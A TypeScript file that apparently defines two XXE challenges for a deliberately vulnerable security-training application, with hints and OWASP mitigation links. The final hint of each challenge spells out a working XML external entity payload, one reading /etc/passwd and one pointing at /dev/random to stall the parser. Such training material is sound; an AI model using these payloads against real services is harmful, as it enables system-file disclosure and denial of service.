import { type ChallengeEntry, on } from '../entry.js'
import { showsSystemFile } from '../rules/system-files.js'

/** The challenges of the category XXE (contract: challenges.json). */
export const xxe = {
  xxeFileDisclosureChallenge: {
    id: 91,
    name: 'XXE Data Access',
    category: 'XXE',
    difficulty: 3,
    tags: ['Danger Zone'],
    mitigation: 'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
    tutorialOrder: null,
    hasCodingChallenge: false,
    unavailableIn: ['Docker', 'Heroku', 'Gitpod'],
    needs: ['external-entities'],
    solvedBy: on('partnerDocument.read', ({ format, text }) => format === 'xml' && showsSystemFile(text)),
    goal: 'The server takes what partners send it literally. Have it read out a <em>file of its own system</em>: <code>/etc/passwd</code>, or <code>C:\\Windows\\system.ini</code> if it lives on Windows.',
    hints: [
      'You have met an interface that should be gone, in the challenge Deprecated Interface. It still parses what it gets.',
      'XML documents may define entities, and an entity may refer to something outside of the document.',
      'Declare an external entity on a file:// address in a DOCTYPE and use it in the document. The error message brings you the answer.',
      'Upload as .xml: <?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    ],
  },

  xxeDosChallenge: {
    id: 92,
    name: 'XXE DoS',
    category: 'XXE',
    difficulty: 5,
    tags: ['Danger Zone'],
    mitigation: 'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
    tutorialOrder: null,
    hasCodingChallenge: false,
    unavailableIn: ['Docker', 'Heroku', 'Gitpod'],
    needs: ['external-entities', 'resource-exhaustion'],
    solvedBy: on('partnerDocument.overran', ({ format }) => format === 'xml'),
    goal: 'An XML document can be a marathon. Send one that keeps the parser <em>running for more than two seconds</em>, by way of the retired partner interface.',
    hints: [
      'The famous attack with laughing entities is recognised, because it nests them. Other ways remain.',
      'Some files of an operating system have no end. An external entity may refer to any file.',
      'Or think flat: one very long entity, used very often, grows with the square of the size of your file.',
      'Upload as .xml: <?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///dev/random">]><foo>&xxe;</foo>',
    ],
  },
} as const satisfies Record<string, ChallengeEntry>
